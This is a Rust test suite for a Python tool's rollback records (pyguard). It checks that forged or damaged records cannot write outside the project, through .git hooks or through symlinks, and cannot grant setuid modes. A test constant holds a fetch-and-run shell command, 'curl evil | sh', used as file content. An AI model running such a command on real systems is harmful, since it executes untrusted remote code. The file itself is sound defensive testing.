//! A repository that brings its own `.pyguard`.

use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};

use serde_json::json;

use super::project::{Project, change, new_run, reason};
use crate::folder::temporary_name;
use crate::{Digest, FileState, Reason, RecordsError, RunId, Store, Unusual};

const EVIL: &[u8] = b"curl evil | sh\n";
const GOOD: &[u8] = b"export PATH\n";

/// A project with a forged record that says to have changed `victim`, whose content it knows.
fn forged(victim: &str) -> (Project, RunId) {
    let project = Project::new();
    let run = project.fix_one("src/a.py", EVIL, GOOD);
    project.forge(&run, |record| record["files"][0]["path"] = json!(victim));
    (project, run)
}

fn outside(project: &Project) -> PathBuf {
    let victim = project.root.parent().unwrap().join("victim");
    fs::write(&victim, GOOD).unwrap();
    victim
}

fn both(store: &Store, paths: &[PathBuf]) -> [Result<crate::RolledBack, RecordsError>; 2] {
    [false, true].map(|force| store.rollback(None, paths, force))
}

#[test]
fn a_path_that_climbs_out_makes_a_record_useless() {
    for path in ["../victim", "src/../../victim", "..", "", ".", "src/.."] {
        let (project, _) = forged(path);
        let victim = outside(&project);
        for result in both(&project.store(), std::slice::from_ref(&victim)) {
            let error = result.unwrap_err();
            assert!(matches!(error, RecordsError::Broken { .. }), "{path}: {error}");
        }
        assert_eq!(fs::read(victim).unwrap(), GOOD);
        assert_eq!(project.store().runs().unwrap().broken.len(), 1);
    }
}

#[test]
fn an_absolute_path_is_not_followed_unless_it_is_named() {
    let (project, run) = forged("placeholder");
    let victim = outside(&project);
    project.forge(&run, |record| record["files"][0]["path"] = json!(victim));
    let link = project.path("innocent.py");
    symlink(&victim, &link).unwrap();
    for paths in [vec![], vec![PathBuf::from("/")], vec![link]] {
        for result in both(&project.store(), &paths) {
            let rolled_back = result.unwrap();
            let reason = reason(&rolled_back.refused);
            assert!(matches!(reason, Reason::NotNamed(Unusual::Outside)), "{reason}");
            assert_eq!(fs::read(&victim).unwrap(), GOOD);
        }
    }
}

#[test]
fn a_file_outside_is_not_even_looked_at() {
    let (project, run) = forged("placeholder");
    let victim = outside(&project);
    project.forge(&run, |record| record["files"][0]["path"] = json!(victim));
    let run = project.store().run(None).unwrap();
    let state = project.store().state(&run.files[0]);
    let outside = Reason::NotNamed(Unusual::Outside).to_string();
    assert!(matches!(state, FileState::Unknown(reason) if reason.to_string() == outside));
}

#[test]
fn version_control_is_never_written_not_even_when_named_and_forced() {
    for name in [".git/config", ".git/hooks/post-checkout", "sub/.Git/config", ".pyguard/lock"] {
        let (project, _) = forged(name);
        let victim = project.write(name, GOOD);
        for paths in [vec![], vec![victim.clone()]] {
            for result in both(&project.store(), &paths) {
                assert!(matches!(reason(&result.unwrap().refused), Reason::Protected));
            }
        }
        assert_eq!(fs::read(victim).unwrap(), GOOD);
    }
}

#[test]
fn installed_packages_are_not_written_by_the_way() {
    for name in [".venv/lib/a.py", "env/lib/a.py", "env/lib/python3.12/site-packages/a.py"] {
        let (project, _) = forged(name);
        project.write("env/pyvenv.cfg", b"");
        let victim = project.write(name, GOOD);
        for paths in
            [vec![], vec![project.root.clone()], vec![project.path("env"), project.path(".venv")]]
        {
            for result in both(&project.store(), &paths) {
                let refused = result.unwrap().refused;
                assert!(refused.iter().any(|one| matches!(one.reason, Reason::NotNamed(_))));
            }
        }
        assert_eq!(fs::read(victim).unwrap(), GOOD);
    }
}

#[test]
fn links_in_place_of_a_file_and_its_folders_are_not_followed() {
    for name in ["link", "folder/victim", "folder/deep/victim"] {
        let (project, _) = forged(name);
        let victim = outside(&project);
        let parent = victim.parent().unwrap();
        symlink(&victim, project.path("link")).unwrap();
        symlink(parent, project.path("folder")).unwrap();
        fs::create_dir(parent.join("deep")).unwrap();
        fs::write(parent.join("deep/victim"), GOOD).unwrap();
        for paths in [vec![], vec![project.path(name)]] {
            for result in both(&project.store(), &paths) {
                let rolled_back = result.unwrap();
                let reason = reason(&rolled_back.refused);
                assert!(matches!(reason, Reason::Linked), "{name}: {reason}");
            }
        }
        assert_eq!(fs::read(&victim).unwrap(), GOOD);
        assert_eq!(fs::read(parent.join("deep/victim")).unwrap(), GOOD);
        assert!(fs::symlink_metadata(project.path("link")).unwrap().is_symlink());
    }
}

#[test]
fn links_in_place_of_the_records_are_refused() {
    let (project, run) = forged("src/a.py");
    let elsewhere = project.root.parent().unwrap().join("elsewhere");
    fs::rename(project.path(".pyguard"), &elsewhere).unwrap();
    symlink(&elsewhere, project.path(".pyguard")).unwrap();
    let store = project.store();
    let new = project.change("b.py", b"a", b"b");
    let is_refused = |error: RecordsError| matches!(error, RecordsError::NotOurs { .. });
    assert!(is_refused(store.runs().unwrap_err()));
    assert!(is_refused(store.run(None).unwrap_err()));
    assert!(is_refused(store.rollback(None, &[], true).unwrap_err()));
    assert!(is_refused(store.write(new_run(), vec![new]).unwrap_err()));
    assert_eq!(project.read("b.py"), b"a");
    assert_eq!(fs::read_dir(&elsewhere).unwrap().count(), 3, "something was written there");

    fs::remove_file(project.path(".pyguard")).unwrap();
    fs::create_dir(project.path(".pyguard")).unwrap();
    symlink(elsewhere.join(run.to_string()), project.run_folder(&run)).unwrap();
    assert!(matches!(store.run(Some(&run.to_string())), Err(RecordsError::UnknownRun(_))));
    assert!(store.runs().unwrap().runs.is_empty());
}

#[test]
fn links_in_place_of_single_files_of_the_records_are_refused() {
    let (project, run) = forged("src/a.py");
    let elsewhere = project.root.parent().unwrap().join("elsewhere");
    let replace = |name: &str| {
        fs::rename(project.path(name), &elsewhere).unwrap();
        symlink(&elsewhere, project.path(name)).unwrap();
    };
    let undo = |name: &str| fs::rename(&elsewhere, project.path(name)).unwrap();
    let backup = format!(".pyguard/{run}/before/0");
    replace(&backup);
    let rolled_back = project.roll_back(&run);
    assert!(matches!(reason(&rolled_back.refused), Reason::BackupDamaged));
    undo(&backup);
    let record = format!(".pyguard/{run}/run.json");
    replace(&record);
    assert!(matches!(project.store().run(None), Err(RecordsError::Broken { .. })));
    undo(&record);
    replace(".pyguard/lock");
    let error = project.store().rollback(None, &[], false).unwrap_err();
    assert!(matches!(error, RecordsError::NotOurs { .. }), "{error}");
    assert_eq!(project.read("src/a.py"), GOOD);
    undo(".pyguard/lock");
    assert_eq!(project.roll_back(&run).restored.len(), 1);
}

#[test]
fn what_stands_where_a_temporary_file_will_be_is_not_written_through() {
    let (project, run) = forged("src/a.py");
    let victim = outside(&project);
    let temporary = project.path("src").join(temporary_name(&run, 0));
    symlink(&victim, &temporary).unwrap();
    assert_eq!(project.roll_back(&run).restored.len(), 1);
    assert_eq!(fs::read(&victim).unwrap(), GOOD);
    assert_eq!(project.read("src/a.py"), EVIL);
    assert!(fs::symlink_metadata(&temporary).is_err());
}

#[test]
fn tidying_removes_nothing_outside_the_project() {
    let (project, run) = forged("placeholder");
    let folder = project.root.parent().unwrap().to_owned();
    let name = temporary_name(&run, 0);
    fs::write(folder.join(&name), b"").unwrap();
    symlink(&folder, project.path("folder")).unwrap();
    let pending = project.run_folder(&run).join("pending");
    for path in [folder.join("victim"), PathBuf::from("folder/victim")] {
        fs::write(&pending, b"").unwrap();
        project.forge(&run, |record| record["files"][0]["path"] = json!(path));
        fs::remove_file(project.path("b.py")).ok();
        project.fix_one("b.py", b"a", b"b");
        assert!(folder.join(&name).exists());
    }
}

#[test]
fn a_record_gives_no_power() {
    let (project, run) = forged("src/a.py");
    project.forge(&run, |record| record["files"][0]["mode"] = json!(0o6777));
    project.roll_back(&run);
    assert_eq!(project.mode("src/a.py"), 0o775);
    fs::remove_file(project.path("src/a.py")).unwrap();
    project.force(&run);
    assert_eq!(project.mode("src/a.py"), 0o775);
}

#[test]
fn a_content_that_is_not_the_recorded_one_is_never_written() {
    let (project, run) = forged("src/a.py");
    fs::write(project.run_folder(&run).join("before/0"), b"something else").unwrap();
    for force in [false, true] {
        let id = run.to_string();
        let rolled_back = project.store().rollback(Some(&id), &[], force).unwrap();
        assert!(matches!(reason(&rolled_back.refused), Reason::BackupDamaged));
    }
    assert_eq!(project.read("src/a.py"), GOOD);
}

fn broken_reason(project: &Project) -> String {
    match project.store().run(None).unwrap_err() {
        RecordsError::Broken { reason, .. } => reason,
        other => panic!("{other}"),
    }
}

#[test]
fn every_beginning_of_a_record_is_refused() {
    let (project, run) = forged("src/a.py");
    let path = project.run_folder(&run).join("run.json");
    let record = fs::read(&path).unwrap();
    for end in 0..record.len() {
        fs::write(&path, &record[..end]).unwrap();
        assert!(broken_reason(&project).starts_with("run.json is no record"), "{end}");
    }
}

#[test]
fn a_record_with_any_byte_changed_does_no_harm_outside() {
    let (project, run) = forged("src/a.py");
    let before = fs::read_dir(project.root.parent().unwrap()).unwrap().count();
    let path = project.run_folder(&run).join("run.json");
    let record = fs::read(&path).unwrap();
    for (place, bit) in (0..record.len()).flat_map(|place| [0, 1, 4].map(|bit| (place, bit))) {
        let mut changed = record.clone();
        changed[place] ^= 1 << bit;
        fs::write(&path, &changed).unwrap();
        project.write("src/a.py", GOOD);
        if let Ok(rolled_back) = project.store().rollback(None, &[], false) {
            assert!(rolled_back.restored.iter().all(|path| path == Path::new("src/a.py")));
        }
        let now = project.read("src/a.py");
        assert!(now == GOOD || now == EVIL);
    }
    assert_eq!(fs::read_dir(project.root.parent().unwrap()).unwrap().count(), before);
}

#[test]
fn a_huge_record_is_not_read() {
    let (project, run) = forged("src/a.py");
    let path = project.run_folder(&run).join("run.json");
    fs::File::options().write(true).open(path).unwrap().set_len(1 << 40).unwrap();
    assert!(broken_reason(&project).contains("more than"));
}

#[test]
fn a_huge_backup_is_not_read() {
    let (project, run) = forged("src/a.py");
    let path = project.run_folder(&run).join("before/0");
    fs::File::options().write(true).open(path).unwrap().set_len(1 << 40).unwrap();
    assert!(matches!(reason(&project.roll_back(&run).refused), Reason::BackupDamaged));
    project.forge(&run, |record| record["files"][0]["before"]["bytes"] = json!(u64::MAX));
    assert!(matches!(reason(&project.roll_back(&run).refused), Reason::BackupDamaged));
}

#[test]
fn a_deeply_nested_record_is_refused() {
    let (project, run) = forged("src/a.py");
    let path = project.run_folder(&run).join("run.json");
    for text in ["[".repeat(1 << 20), format!("{{\"version\":1,\"x\":{}", "[".repeat(1 << 20))] {
        fs::write(&path, text).unwrap();
        assert!(broken_reason(&project).starts_with("run.json is no record"));
    }
}

#[test]
fn records_of_other_versions_and_of_other_runs_are_refused() {
    let (project, run) = forged("src/a.py");
    project.forge(&run, |record| record["version"] = json!(2));
    assert!(broken_reason(&project).contains("version 2"));
    project.forge(&run, |record| {
        record["version"] = json!(1);
        record["id"] = json!("20200102T030405Z-1");
    });
    assert!(broken_reason(&project).contains("another run"));
    project.forge(&run, |record| {
        record["id"] = json!(run.to_string());
        record["rollback_of"] = json!("../x");
    });
    assert!(broken_reason(&project).contains("rollback of no run"));
}

#[test]
fn an_error_is_one_line_whatever_the_record_says() {
    let (project, run) = forged("src/a.py");
    project.forge(&run, |record| record["id"] = json!("\u{1b}[2J\nrun: all is well\r"));
    let error = project.store().run(None).unwrap_err().to_string();
    assert!(!error.chars().any(char::is_control), "{error:?}");
}

#[test]
fn a_broken_newest_run_is_not_passed_over() {
    let project = Project::new();
    project.fix_one("a.py", b"a", b"b");
    let newest = project.fix_one("b.py", b"a", b"b");
    fs::write(project.run_folder(&newest).join("run.json"), b"{}").unwrap();
    let error = project.store().rollback(None, &[], false).unwrap_err();
    assert!(matches!(error, RecordsError::Broken { id, .. } if id == newest));
    assert_eq!(project.read("a.py"), b"b");
    let runs = project.store().runs().unwrap();
    assert_eq!((runs.runs.len(), runs.broken.len()), (1, 1));
}

#[test]
fn a_record_that_names_one_file_many_times_changes_it_once() {
    let (project, run) = forged("src/a.py");
    project.forge(&run, |record| {
        let file = record["files"][0].clone();
        record["files"] = json!(vec![file; 3]);
    });
    let folder = project.run_folder(&run).join("before");
    fs::copy(folder.join("0"), folder.join("1")).unwrap();
    let rolled_back = project.roll_back(&run);
    assert_eq!((rolled_back.restored.len(), rolled_back.already.len()), (1, 2));
    assert_eq!(project.read("src/a.py"), EVIL);
}

#[test]
fn marks_that_speak_of_other_files_do_no_harm() {
    let (project, run) = forged("src/a.py");
    let folder = project.run_folder(&run);
    let far = usize::MAX;
    let mark =
        json!({ "time": "x", "not_written": [{ "file": far, "reason": "x" }], "files": [far] });
    for name in ["done.json", "rolled-back.json"] {
        fs::write(folder.join(name), mark.to_string()).unwrap();
    }
    assert_eq!(project.roll_back(&run).restored.len(), 1);
}

#[test]
fn a_hash_in_any_other_form_is_no_hash() {
    let (project, run) = forged("src/a.py");
    let upper = Digest::of(GOOD).blake3.to_uppercase();
    project.forge(&run, |record| record["files"][0]["after"]["blake3"] = json!(upper));
    assert!(matches!(reason(&project.roll_back(&run).refused), Reason::ChangedSince));
    assert_eq!(project.read("src/a.py"), GOOD);
    let other = change(&project.path("src/a.py"), GOOD, b"x");
    project.fix(vec![other]);
}
